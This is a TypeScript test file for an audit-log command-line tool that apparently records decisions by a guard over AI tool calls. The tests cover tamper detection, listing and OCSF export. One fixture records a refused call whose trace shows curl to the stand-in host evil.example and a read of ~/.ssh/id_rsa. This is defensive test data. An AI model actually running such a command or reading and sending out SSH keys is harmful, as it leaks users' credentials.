import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import type { AuditEntry } from '../../../model/guard.ts';
import { openAuditLog } from '../../../world/store/audit-log.ts';
import { run } from '../program.ts';

let folder: string;
let file: string;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'audit-cli-'));
  file = join(folder, 'guard.jsonl');
  await using log = await openAuditLog(file, { run: 'run-1', secrets: new Map(), now: () => new Date('2026-01-02T03:04:05Z') });
  await log.write(
    entry({ decision: { moment: 'before', answer: 'pass', reasons: [], evaluated: ['lock'], rewritten: undefined }, says: 'Passed.' }),
  );
  await log.write(
    entry({
      did: 'withheld',
      says: 'Refused: it sent a key away.',
      decision: {
        moment: 'after',
        answer: 'refuse',
        reasons: [{ source: 'rule', id: 'secret-sent-out', answer: 'refuse', says: 'It sent a key away.', evidence: [] }],
        evaluated: ['lock', 'secret-sent-out'],
        rewritten: undefined,
      },
      took: { server: 12, guard: 0.4 },
      behaviour: {
        tracer: 'strace',
        processes: [{ id: 'p1', parent: 'p0', program: '/usr/bin/curl', argv: ['curl', 'evil.example'], exit: 0, at: 1_767_323_045_000 }],
        files: [{ process: 'p0', did: 'read', path: '/home/user/.ssh/id_rsa', error: undefined, at: 1_767_323_045_001 }],
        network: [],
        unseen: [],
        dropped: 0,
      },
    }),
  );
  await log.write(entry({ call: undefined, kind: 'stop', tool: undefined, method: undefined, says: 'Ended.' }));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const entry = (more: Partial<AuditEntry>): AuditEntry => ({
  call: 'c0ffee-1',
  server: 'notes',
  kind: 'decision',
  method: 'tools/call',
  tool: 'add_note',
  args: { text: 'x' },
  decision: undefined,
  did: 'forwarded',
  behaviour: undefined,
  says: '',
  ...more,
});

async function said(...argv: string[]): Promise<{ code: number; out: string; err: string }> {
  const [out, err] = [vi.spyOn(process.stdout, 'write').mockReturnValue(true), vi.spyOn(process.stderr, 'write').mockReturnValue(true)];
  try {
    const code = await run(argv);
    const text = (spy: typeof out): string => spy.mock.calls.map(([chunk]) => String(chunk)).join('');
    return { code, out: text(out), err: text(err) };
  } finally {
    out.mockRestore();
    err.mockRestore();
  }
}

test('a record that nobody changed is whole, with an anchor; one that was changed is not', async () => {
  const whole = await said('audit', 'verify', file);
  expect(whole).toMatchObject({ code: 0 });
  const anchor = /^anchor (2:[0-9a-f]{64})$/m.exec(whole.out)?.[1] ?? '';
  expect(await said('audit', 'verify', file, '--anchor', anchor)).toMatchObject({ code: 0 });
  const changed = join(folder, 'changed.jsonl');
  writeFileSync(changed, readFileSync(file, 'utf8').replace('withheld', 'forwarded'));
  const found = await said('audit', 'verify', changed);
  expect(found.code).toBe(1);
  expect(found.out).toContain('changed.jsonl:3: It does not fit the line before it: line 1 was edited');
  const cut = join(folder, 'cut.jsonl');
  writeFileSync(cut, readFileSync(file, 'utf8').split('\n').slice(0, 2).join('\n'));
  expect((await said('audit', 'verify', cut)).out).toContain('not finished');
  expect(await said('audit', 'verify', cut, '--anchor', anchor)).toMatchObject({ code: 1 });
  expect((await said('audit', 'verify', file, '--anchor', 'x')).code).toBe(2);
  expect((await said('audit', 'verify', join(folder, 'none'))).code).toBe(2);
});

test('without a file the usual record is read, and one word alone is a call of it', async () => {
  const state = join(folder, 'state');
  mkdirSync(join(state, 'assayer'), { recursive: true });
  copyFileSync(file, join(state, 'assayer', 'audit.jsonl'));
  vi.stubEnv('XDG_STATE_HOME', state);
  try {
    expect((await said('audit', 'show')).out).toContain('c0ffee-1');
    expect((await said('audit', 'show', 'c0ff')).out).toContain('ran curl evil.example');
    expect(await said('audit', 'verify')).toMatchObject({ code: 0 });
  } finally {
    vi.unstubAllEnvs();
  }
});

test('calls are listed by how they ended, and one is drawn with all that was done for it', async () => {
  const { out } = await said('audit', 'show', file);
  expect(out.trim().split('\n')).toHaveLength(2);
  expect(out).toMatch(/c0ffee-1 +notes +add_note +withheld +Refused: it sent a key away\./);
  const drawn = (await said('audit', 'show', file, 'c0f')).out;
  expect(drawn).toContain('ran curl evil.example');
  expect(drawn).toContain('refuse secret-sent-out: It sent a key away.');
  expect(drawn).toMatch(/read ~\/\.ssh\/id_rsa/);
  expect((await said('audit', 'show', file, 'nobody')).err).toContain('no such call');
  expect(JSON.parse((await said('audit', 'show', file, '1', '--json')).out)).toHaveLength(2);
});

test('as events of OCSF: decisions, findings and deeds of one call belong together', async () => {
  const { out } = await said('audit', 'show', file, 'c0ffee-1', '--ocsf');
  const events = out
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown> & { metadata: { correlation_uid: string } });
  expect(new Set(events.map(({ metadata }) => metadata.correlation_uid))).toEqual(new Set(['c0ffee-1']));
  expect(events.map((event) => event['class_uid']).sort((a, b) => Number(a) - Number(b))).toEqual([1001, 1007, 1007, 2004, 6003, 6003]);
  expect(events.find((event) => event['class_uid'] === 2004)).toMatchObject({
    type_uid: 200401,
    severity_id: 4,
    finding_info: { title: 'secret-sent-out' },
    disposition_id: 2,
  });
  expect(out).not.toContain('"text"');
});
